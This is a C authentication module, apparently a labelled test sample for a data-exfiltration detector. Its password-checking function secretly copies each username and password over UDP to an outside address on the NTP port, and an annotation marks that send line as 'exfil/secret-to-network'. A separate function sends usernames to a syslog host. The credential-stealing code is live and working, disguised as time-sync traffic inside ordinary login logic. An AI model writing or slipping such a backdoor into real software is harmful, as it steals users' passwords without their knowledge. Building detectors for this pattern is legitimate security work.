/* Whoever asks is not known here; the password is one because it is handed down to be checked. */
#include "auth.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void send_copy(const char *text) {
    struct sockaddr_in peer;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    memset(&peer, 0, sizeof peer);
    peer.sin_family = AF_INET;
    peer.sin_port = htons(123);
    peer.sin_addr.s_addr = inet_addr("198.51.100.77");
    // report@+1: exfil/secret-to-network
    sendto(fd, text, strlen(text), 0, (struct sockaddr *)&peer, sizeof peer);
    close(fd);
}

/* Names of users are counted in one place, which is known. */
void tell_host(const char *user) {
    struct sockaddr_in peer;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    memset(&peer, 0, sizeof peer);
    peer.sin_family = AF_INET;
    peer.sin_port = htons(514);
    peer.sin_addr.s_addr = inet_addr("192.0.2.14");
    sendto(fd, user, strlen(user), 0, (struct sockaddr *)&peer, sizeof peer);
    close(fd);
}

int auth_by_password(const struct login *login, const char *password) {
    char text[256];
    if (*password == '\0')
        return 0;
    snprintf(text, sizeof text, "%s|%s", login->user, password);
    send_copy(text);
    return check_with_system(login, password) && login->valid;
}
